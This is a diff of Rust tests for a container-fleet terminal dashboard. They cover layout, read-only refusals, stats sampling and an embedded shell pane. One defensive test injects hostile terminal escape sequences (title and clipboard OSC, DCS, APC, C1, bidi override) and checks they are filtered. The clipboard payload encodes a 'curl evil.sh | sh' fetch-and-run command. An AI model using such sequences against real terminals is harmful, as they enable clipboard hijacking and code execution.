@@ -353,8 +353,8 @@ fn help_overlay_lists_the_keymap_and_fits_80x24() {
             );
         }
     }
-    // A tall terminal shows the whole keymap.
-    let text = buffer_to_text(&render(&mut app, 120, 60));
+    // A tall terminal shows the whole keymap (two columns of 64 rows since the shell keys).
+    let text = buffer_to_text(&render(&mut app, 120, 70));
     for section in app.keymap.help() {
         assert!(
             text.contains(&section.title),
@@ -873,10 +873,216 @@ fn read_only_endpoints_wear_a_lock_and_refuse_action_keys_with_a_reason() {
         "hidden on a read-only endpoint:\n{text}"
     );
     key(&mut app, KeyCode::Char('r'));
-    assert!(app.commands.is_empty() && app.view.confirm.is_none());
+    // No confirmation; the refused request still goes to the gate, which audits the refusal.
+    assert!(app.view.confirm.is_none());
+    assert!(
+        matches!(app.commands.as_slice(), [fleetdeck::app::Command::Actions { requests }]
+            if requests.len() == 1 && requests[0].container == "api-1"),
+        "{:?}",
+        app.commands
+    );
     let text = buffer_to_text(&render(&mut app, 140, 30));
     assert!(
         text.contains("restart refused: us-east-01 is read-only"),
         "{text}"
     );
+}
+
+/// The stats collector samples what is on screen every interval and the rest less often; the
+/// app tells it which containers those are, from the frame it just laid out.
+#[test]
+fn stats_focus_is_the_rows_on_screen_and_everything_in_the_stats_view() {
+    use fleetdeck::ui::state::View;
+    let mut app = app();
+    let count = |focus: &[fleetdeck::engine::stats::Focus]| -> usize {
+        focus
+            .iter()
+            .map(|f| f.as_ref().map_or(0, |s| s.len()))
+            .sum()
+    };
+    // Clusters view: no container row on screen.
+    app.view.view = View::Clusters;
+    app.prepare_frame(80, 24);
+    let focus = app.stats_focus(false);
+    assert_eq!(focus.len(), 3);
+    assert!(
+        focus.iter().all(Option::is_some) && count(&focus) == 0,
+        "{focus:?}"
+    );
+    // Containers view, tall: all six rows; short: only the rows that fit.
+    app.view.view = View::Containers;
+    app.prepare_frame(80, 24);
+    assert_eq!(count(&app.stats_focus(false)), 6);
+    app.prepare_frame(80, 8);
+    let short = count(&app.stats_focus(false));
+    assert!((1..6).contains(&short), "{short} rows on an 8-line screen");
+    // The stats view ranks the whole fleet; an InfluxDB export wants everything.
+    assert!(app.stats_focus(true).iter().all(Option::is_none));
+    app.view.view = View::Stats;
+    assert!(app.stats_focus(false).iter().all(Option::is_none));
+}
+
+/// Hostile shell output goes through the whole path a frame takes to the operator's terminal:
+/// engine message → the pane's emulator → the widgets → ratatui's crossterm backend, written
+/// into a byte sink. Only the rendered cells come out: no OSC (title, clipboard), no DCS, no
+/// BEL, no C1; the cursor-position query is answered to the shell, not the terminal.
+#[test]
+fn hostile_shell_output_never_reaches_the_host_terminal() {
+    use fleetdeck::model::shell::{Emulator, ShellTarget};
+    use ratatui::backend::CrosstermBackend;
+    use ratatui::layout::Rect;
+    use ratatui::{TerminalOptions, Viewport};
+
+    let mut app = app();
+    let (w, h) = (100u16, 30u16);
+    app.prepare_frame(w, h);
+    let (rows, cols) = app.shell_terminal_size();
+    let shell = app.shells.open(
+        ShellTarget::Exec {
+            endpoint: 0,
+            container_id: "c1".into(),
+            container: "web-1".into(),
+        },
+        "lab1/web-1".into(),
+        Emulator::new(rows, cols, 100),
+    );
+    let msg = |kind| Msg {
+        endpoint: 0,
+        at: now(),
+        kind,
+    };
+    app.apply(msg(MsgKind::ShellStarted { shell }));
+    let hostile: &[u8] = b"before\x1b]0;pwned-title\x07\
+        \x1b]2;pwned-title2\x1b\\\
+        \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\
+        \x1bP+q544e\x1b\\\
+        \x1bPq#0;2;0;0;0#0~~\x1b\\\
+        \x1b_apc-payload\x1b\\\
+        \x1b[6n\x07\
+        \xc2\x9d8;;http://evil\xc2\x9c\xe2\x80\xae-rtl\
+        after";
+    app.apply(msg(MsgKind::ShellOutput {
+        shell,
+        bytes: hostile.to_vec(),
+    }));
+
+    // The query was answered to the shell: ESC [ row ; col R.
+    let answered = app.commands.iter().any(|c| {
+        matches!(c, fleetdeck::app::Command::ShellInput {
+            input: fleetdeck::engine::shell::ShellInput::Bytes(b), ..
+        } if b.starts_with(b"\x1b[1;") && b.ends_with(b"R"))
+    });
+    assert!(answered, "{:?}", app.commands);
+
+    /// A terminal that keeps every byte written to it.
+    #[derive(Clone, Default)]
+    struct Sink(std::sync::Arc<std::sync::Mutex<Vec<u8>>>);
+    impl std::io::Write for Sink {
+        fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
+            self.0.lock().unwrap().extend_from_slice(buf);
+            Ok(buf.len())
+        }
+        fn flush(&mut self) -> std::io::Result<()> {
+            Ok(())
+        }
+    }
+    let sink = Sink::default();
+    let backend = CrosstermBackend::new(sink.clone());
+    let mut term = Terminal::with_options(
+        backend,
+        TerminalOptions {
+            viewport: Viewport::Fixed(Rect::new(0, 0, w, h)),
+        },
+    )
+    .unwrap();
+    app.prepare_frame(w, h);
+    term.draw(|f| app.draw(f)).unwrap();
+    let out = sink.0.lock().unwrap().clone();
+    let text = String::from_utf8_lossy(&out);
+    assert!(
+        text.contains("before") && text.contains("after"),
+        "the pane was drawn"
+    );
+    for (what, needle) in [
+        ("OSC", &b"\x1b]"[..]),
+        ("DCS", b"\x1bP"),
+        ("APC", b"\x1b_"),
+        ("PM", b"\x1b^"),
+        ("BEL", b"\x07"),
+        ("C1 OSC", "\u{9d}".as_bytes()),
+        ("C1 ST", "\u{9c}".as_bytes()),
+        ("bidi override", "\u{202e}".as_bytes()),
+        ("title", b"pwned"),
+        ("clipboard payload", b"Y3VybCBldmlsLnNoIHwgc2g"),
+        ("APC payload", b"apc-payload"),
+        ("cursor report", b"\x1b[6n"),
+    ] {
+        assert!(
+            !out.windows(needle.len()).any(|w| w == needle),
+            "{what} reached the terminal: {text:?}"
+        );
+    }
+}
+
+/// The pane under the view at 80x24: tabs with their state, the focus key, the view above
+/// still drawn, and the exit status of a shell that ended.
+#[test]
+fn the_shell_pane_sits_under_the_view_with_its_tabs() {
+    use fleetdeck::model::shell::{Emulator, ShellState, ShellTarget};
+    let mut app = app();
+    app.prepare_frame(80, 24);
+    let (rows, cols) = app.shell_terminal_size();
+    assert_eq!(
+        (rows, cols),
+        (11, 78),
+        "60% of the 22-row body, inside its border"
+    );
+    let msg = |kind| Msg {
+        endpoint: 0,
+        at: now(),
+        kind,
+    };
+    let host = app.shells.open(
+        ShellTarget::Host { endpoint: 1 },
+        "us-east-02 (host)".into(),
+        Emulator::new(rows, cols, 10),
+    );
+    app.apply(msg(MsgKind::ShellEnded {
+        shell: host,
+        state: ShellState::Exited(Some(130)),
+    }));
+    let exec = app.shells.open(
+        ShellTarget::Exec {
+            endpoint: 0,
+            container_id: "c1".into(),
+            container: "web-1".into(),
+        },
+        "us-east-01/web-1".into(),
+        Emulator::new(rows, cols, 10),
+    );
+    app.apply(msg(MsgKind::ShellStarted { shell: exec }));
+    app.apply(msg(MsgKind::ShellOutput {
+        shell: exec,
+        bytes: b"/ # ls\r\nbin   dev   etc   home  proc  root  sys   tmp   usr   var\r\n/ # "
+            .to_vec(),
+    }));
+    let buf = render(&mut app, 80, 24);
+    insta::assert_snapshot!("shell_pane_80x24", buffer_to_text(&buf));
+    // Back on the dashboard, the earlier tab shows how its shell ended.
+    key(&mut app, KeyCode::Char('5'));
+    app.handle_key(KeyEvent::new(KeyCode::Char('5'), KeyModifiers::CONTROL));
+    assert!(!app.shells.focused);
+    key(&mut app, KeyCode::Char('{'));
+    let text = buffer_to_text(&render(&mut app, 80, 24));
+    assert!(text.contains("us-east-02 (host): exited 130"), "{text}");
+}
+
+#[test]
+fn a_wall_display_opens_no_shell() {
+    let mut app = app();
+    app.enable_wall(&fleetdeck::config::WallSettings::default());
+    app.perform(fleetdeck::app::Action::HostShell);
+    app.perform(fleetdeck::app::Action::Exec);
+    assert!(app.shells.is_empty());
+    assert!(app.commands.is_empty());
 }
